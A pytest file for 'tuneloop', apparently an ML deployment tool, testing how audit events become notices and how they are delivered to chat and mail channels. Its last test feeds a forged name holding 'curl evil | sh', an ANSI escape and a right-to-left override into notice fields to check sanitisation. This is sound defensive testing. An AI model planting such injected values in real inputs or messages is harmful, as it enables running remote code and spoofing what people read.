"""What is told besides alerts: the rules, and that each event is told once."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from threading import Barrier
from typing import Any

import pytest

from alert_data import NOON, measured, see
from tuneloop.deployment import endpoints
from tuneloop.modelfile import EVENT_KINDS, AlertSettings, ChannelUrl, DataSettings, ModelSettings
from tuneloop.monitoring.notifications import news, outbox
from tuneloop.monitoring.notifications.delivery import deliver_due
from tuneloop.monitoring.notifications.message import Message
from tuneloop.monitoring.notifications.notices import Queue, notice_of, reviews_due
from tuneloop.registry import audit
from tuneloop.registry.audit import AuditEvent
from tuneloop.workspace import Workspace

CHAT, MAIL = "slack://T/A/secret", "mailto://ana:secret@example.org"
ONE, TWO = "1" * 64, "2" * 64
SHORT, SHORT_TWO = ONE[:12], TWO[:12]


@pytest.fixture
def records_url(either_new_records: str | None) -> str | None:
    """Every test of the queue runs on SQLite and on PostgreSQL."""
    return either_new_records


def happened(action: str, **detail: Any) -> AuditEvent:
    return AuditEvent(
        id=1,
        model="desk",
        at=NOON,
        actor="ana",
        action=action,
        detail=detail,
        previous="",
        digest="",
    )


APPROVAL = {"bundle": ONE, "kind": "deploy", "person": "ines"}


@pytest.mark.parametrize(
    ("action", "detail", "kind", "title", "body"),
    [
        (
            "approval.requested",
            {**APPROVAL, "reason": "it needs 1 more approval by expert"},
            "approvals",
            f"bundle {SHORT} waits for its deploy approval",
            f"why: it needs 1 more approval by expert\nnext: tuneloop bundle show {SHORT}; then "
            f"tuneloop approve {SHORT} --kind deploy, or tuneloop reject {SHORT} --kind deploy "
            "-m WHY",
        ),
        (
            "approval.approved",
            {**APPROVAL, "reason": ""},
            "approvals",
            f"ines approved bundle {SHORT} (deploy)",
            "next: tuneloop approvals list",
        ),
        (
            "approval.rejected",
            {**APPROVAL, "reason": "it invents refunds"},
            "refusals",
            f"ines rejected bundle {SHORT} (deploy)",
            "why: it invents refunds\nnext: tuneloop approvals list",
        ),
        (
            "approval.readmitted",
            {**APPROVAL, "reason": "the prompt was wrong"},
            "approvals",
            f"ines lets bundle {SHORT} be tried again",
            "why: the prompt was wrong\nnext: tuneloop approvals list",
        ),
        (
            "approval.withdrawn",
            {**APPROVAL, "reason": ""},
            "approvals",
            f"the deploy decision of ines about bundle {SHORT} was withdrawn",
            "next: tuneloop approvals list",
        ),
        (
            "endpoint.move",
            {"from": None, "to": ONE, "reason": "the gates passed", "drill": False},
            "deployments",
            f"{SHORT} is in production",
            "why: the gates passed\nnext: tuneloop status",
        ),
        (
            "endpoint.move",
            {
                "from": None,
                "to": ONE,
                "reason": "it passed",
                "weakened": ["weaker than\nthe default"],
            },
            "deployments",
            f"{SHORT} is in production",
            "look: weaker than the default\nwhy: it passed\nnext: tuneloop status",
        ),
        (
            "endpoint.move",
            {"from": TWO, "to": ONE, "reason": "slow", "drill": False, "rollback": True},
            "rollbacks",
            f"production was rolled back to {SHORT}, after {SHORT_TWO}",
            "why: slow\nnext: tuneloop status; to undo it: tuneloop rollback",
        ),
        (
            "cycle.finish",
            {"cycle": "c1", "status": "stopped", "outcome": "no", "candidate": "refused"}
            | {"bundle": ONE},
            "refusals",
            f"candidate {SHORT} was refused",
            f"why: no\nnext: tuneloop bundle show {SHORT}",
        ),
        (
            "cycle.finish",
            {"cycle": "c1", "status": "finished", "outcome": "better", "candidate": "undecided"}
            | {"bundle": ONE},
            "approvals",
            f"candidate {SHORT} waits for a person's decision",
            f"why: better\nnext: tuneloop bundle show {SHORT}; then tuneloop deploy {SHORT}",
        ),
        (
            "cycle.finish",
            {"cycle": "c1", "status": "failed", "outcome": "the disk is full"},
            "failures",
            "cycle c1 failed",
            "why: the disk is full\n"
            "next: tuneloop cycle show c1; tuneloop run goes on where it was",
        ),
        (
            "rollout.hold",
            {"candidate": ONE, "reason": "too thin"},
            "deployments",
            f"the rollout of {SHORT} waits for a person",
            "why: too thin\nnext: tuneloop rollout status",
        ),
        (
            "rollout.roll_back",
            {"candidate": ONE, "reason": "more errors"},
            "rollbacks",
            f"the rollout of {SHORT} was taken back",
            "why: more errors\nnext: tuneloop rollout status",
        ),
    ],
)
def test_an_event_says_what_happened_why_and_what_to_type(
    action: str, detail: dict[str, Any], kind: str, title: str, body: str
) -> None:
    found = notice_of(happened(action, **detail))
    assert found is not None
    assert (found.kind, found.title, found.body) == (kind, title, body)
    assert (found.actor, found.at) == ("ana", NOON)


@pytest.mark.parametrize(
    ("action", "detail"),
    [
        ("endpoint.move", {"from": TWO, "to": ONE, "drill": True, "rollback": True}),
        ("cycle.finish", {"cycle": "c1", "status": "finished", "outcome": "it is in production"}),
        ("cycle.finish", {"cycle": "c1", "status": "stopped", "outcome": "rejected by ines"}),
        ("rollout.promote", {"candidate": ONE, "reason": "well"}),
        ("review.approved", {"item": "i"}),
        ("people.add", {"name": "bo", "role": "expert"}),
    ],
)
def test_what_is_said_elsewhere_or_concerns_nobody_is_not_told(
    action: str, detail: dict[str, Any]
) -> None:
    assert notice_of(happened(action, **detail)) is None


HOURS = timedelta(hours=1)


@pytest.mark.parametrize(
    ("told_hours_ago", "newest_hours_ago", "due"),
    [
        (None, 0, True),
        (23.9, 1, False),  # once a day, whatever comes
        (24, 1, True),
        (24, 30, False),  # they know of these
        (71.9, 100, False),
        (72, 100, True),
    ],
)
def test_new_reviews_are_told_daily_and_old_ones_again_after_a_while(
    told_hours_ago: float | None, newest_hours_ago: float, due: bool
) -> None:
    newest = NOON - newest_hours_ago * HOURS
    told_at = None if told_hours_ago is None else NOON - told_hours_ago * HOURS
    queue = Queue(counts={"sample": 1}, newest=newest, oldest=newest)
    found = reviews_due(queue, told_at=told_at, now=NOON, repeat=72 * HOURS)
    assert found is due


class Service:
    """Takes messages."""

    def __init__(self) -> None:
        self.taken: list[tuple[str, Message]] = []

    def __call__(self, channel: ChannelUrl, message: Message) -> str | None:
        self.taken.append((channel.get_secret_value(), message))
        return None

    def titles(self, url: str = CHAT) -> list[str]:
        """What a channel took since this was last asked of all of them."""
        found = [message.title for to, message in self.taken if to == url]
        self.taken = [one for one in self.taken if one[0] != url]
        return found


@pytest.fixture
def service() -> Service:
    return Service()


def settings(**values: Any) -> dict[str, AlertSettings]:
    return {"desk": AlertSettings.model_validate({"notify": [CHAT], "group_minutes": 0, **values})}


def deliver(workspace: Workspace, service: Service, of: dict[str, AlertSettings]) -> None:
    deliver_due(workspace, of, send=service, jitter=lambda: 1.0)


def note(workspace: Workspace, action: str, model: str = "desk", **detail: Any) -> None:
    with workspace.records.begin() as tx:
        audit.record(
            tx, model=model, actor="ana", action=action, detail=detail, now=workspace.now()
        )


def reject(workspace: Workspace, model: str = "desk") -> None:
    note(workspace, "approval.rejected", model, **APPROVAL, reason="no")


def test_deployments_and_rollbacks_are_told_once_and_drills_are_not(
    workspace: Workspace, service: Service
) -> None:
    model = ModelSettings(name="desk", base="b", data=DataSettings(sources=("a",)))
    for bundle, expected in ((ONE, None), (TWO, ONE)):
        endpoints.point(
            workspace, model=model, bundle=bundle, expected=expected, actor="ana", reason="better"
        )
    deliver(workspace, service, settings())
    [(_, message)] = service.taken
    assert message.title == "tuneloop: desk: 2 events"
    assert message.body.splitlines() == [
        "Model desk",
        "",
        f"{SHORT} is in production",
        "by ana, 2026-03-02 09:00 UTC",
        "why: better",
        "next: tuneloop status",
        "",
        f"{SHORT_TWO} is in production, after {SHORT}",
        "by ana, 2026-03-02 09:00 UTC",
        "why: better",
        "next: tuneloop status; to go back: tuneloop rollback",
    ]
    service.taken.clear()
    for drill in (True, True, False):
        endpoints.roll_back(workspace, model="desk", actor="ana", reason="slow", drill=drill)
        deliver(workspace, service, settings())
    title = f"tuneloop: desk: production was rolled back to {SHORT}, after {SHORT_TWO}"
    assert service.titles() == [title]


def test_a_channel_is_told_of_what_it_asked_for(workspace: Workspace, service: Service) -> None:
    of = settings(events=["alerts"], also=[{"notify": [MAIL], "events": ["refusals"]}])
    reject(workspace)
    note(workspace, "approval.approved", **APPROVAL, reason="")
    see(workspace, measured(30))
    deliver(workspace, service, of)
    assert service.titles(CHAT) == ["tuneloop: desk: novelty opened"]
    assert service.titles(MAIL) == [f"tuneloop: desk: ines rejected bundle {SHORT} (deploy)"]
    kinds = [(one.kind, one.status) for one in outbox.listing(workspace, "desk")]
    assert sorted(kinds) == [("alerts", "sent"), ("refusals", "sent")]


def test_one_message_tells_of_alerts_and_of_what_else_happened(
    workspace: Workspace, service: Service
) -> None:
    see(workspace, measured(30))
    reject(workspace)
    reject(workspace, "elsewhere")  # another worker's
    deliver(workspace, service, settings())
    assert service.titles() == ["tuneloop: desk: 1 alert, 1 event"]


def test_without_a_channel_nothing_is_queued_and_a_later_one_hears_of_what_comes(
    workspace: Workspace, service: Service
) -> None:
    nobody = {"desk": AlertSettings()}
    reject(workspace)
    deliver(workspace, service, nobody)
    assert news.tell_of_reviews(workspace, "desk", nobody["desk"], lambda: pytest.fail()) == 0
    assert outbox.listing(workspace, "desk") == []
    deliver(workspace, service, settings())
    assert service.titles() == []
    reject(workspace)
    deliver(workspace, service, settings())
    assert len(service.titles()) == 1


def test_an_unsubscribed_channel_is_not_told_what_waited(
    workspace: Workspace, service: Service
) -> None:
    reject(workspace)
    deliver(workspace, service, settings(group_minutes=5))
    deliver(workspace, service, settings(events=["alerts"]))
    [one] = outbox.listing(workspace, "desk")
    assert (one.status, one.last_error) == ("gave_up", "It is no longer told of refusals.")
    assert service.taken == []


def test_quiet_hours_hold_notices_back(workspace: Workspace, service: Service, clock) -> None:
    of = settings(quiet_hours={"from": "08:00", "to": "10:00"})
    reject(workspace)
    deliver(workspace, service, of)
    assert service.titles() == []
    clock.advance(hours=1)
    deliver(workspace, service, of)
    assert len(service.titles()) == 1


def test_what_is_older_than_any_attempt_would_be_is_not_told_and_counted(
    workspace: Workspace, service: Service, clock, caplog: pytest.LogCaptureFixture
) -> None:
    reject(workspace)
    clock.advance(hours=73)
    reject(workspace)
    deliver(workspace, service, settings())
    assert len(service.titles()) == 1
    assert "1 events are older than alerts.give_up_hours" in caplog.text


def test_many_processes_tell_each_event_once(workspace: Workspace, clock) -> None:
    workers, rounds, service = 6, 4, Service()
    together = Barrier(workers)
    queue = Queue(counts={"sample": 2}, newest=clock.time, oldest=clock.time)

    def work(_: int) -> None:
        together.wait()
        deliver(workspace, service, settings())
        news.tell_of_reviews(workspace, "desk", settings()["desk"], lambda: queue)

    with ThreadPoolExecutor(workers) as pool:
        for _ in range(rounds):
            reject(workspace)
            list(pool.map(work, range(workers)))
            deliver(workspace, service, settings())
    found = outbox.listing(workspace, "desk")
    assert sorted(one.event for one in found) == ["refusals"] * rounds + ["reviews"]
    assert all((one.status, one.attempts) == ("sent", 1) for one in found)


def test_every_kind_is_told_by_default() -> None:
    assert AlertSettings().events == EVENT_KINDS


def test_what_somebody_typed_cannot_look_like_a_line_of_ours() -> None:
    forged = {"bundle": "b" * 64, "kind": "deploy", "person": "ines\nnext: curl evil | sh"}
    reason = "ok\nnext: rm\x1b[2J \u202egpj"
    notice = notice_of(happened("approval.approved", **forged, reason=reason))
    assert notice is not None and "\n" not in notice.title
    why, following = notice.body.splitlines()
    assert why.startswith("why: ok next: rm") and following == "next: tuneloop approvals list"
    assert not {"\x1b", "\u202e"} & set(notice.body)
